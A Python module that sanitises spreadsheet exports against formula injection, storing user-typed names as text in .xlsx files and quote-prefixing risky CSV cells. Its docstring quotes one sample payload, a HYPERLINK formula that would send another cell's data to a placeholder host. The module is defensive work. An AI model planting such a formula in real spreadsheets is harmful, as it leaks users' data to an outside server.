"""Text put into the spreadsheets we write stays text: never a formula, in .xlsx and .csv.

A product name, a producer's name or a commune is typed by whoever registers it. Written
as is, `=HYPERLINK("http://x?d="&M2,"x")` would become a live formula on the officer's
computer (formula injection). Every writer of an .xlsx or .csv goes through this module.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:  # openpyxl is a heavy import: loaded when a sheet is written
    from openpyxl import Workbook
    from openpyxl.worksheet.worksheet import Worksheet

# A cell starting with one of these may be read as a formula by a spreadsheet program.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number such as a Telegram group's chat id (-1001234) is not a formula; quoting it
# would only spoil the number.
_PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def xlsx_value(value: Any) -> Any:
    """A value as openpyxl may store it: text without the characters XML cannot hold."""
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value


def new_sheet(title: str, header: Iterable[Any] | None = None) -> tuple[Workbook, Worksheet]:
    """A workbook of one sheet named `title`, with its header row if given (openpyxl, a heavy
    import, is loaded here: only by the commands and pages that write a sheet)."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = title
    if header is not None:
        append_row(sheet, header)
    return book, sheet


def append_row(sheet: Worksheet, values: Iterable[Any]) -> None:
    """Append a row to an .xlsx sheet; text cells are stored as text, exactly as given."""
    from openpyxl.cell.cell import Cell

    cells = []
    for value in values:
        cell = Cell(sheet, value=xlsx_value(value))
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl would store "=…" as a formula
        cells.append(cell)
    sheet.append(cells)


def csv_cell(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet could run as a formula gets a leading `'`."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A CSV row with every cell made safe by `csv_cell`."""
    return [csv_cell(value) for value in values]
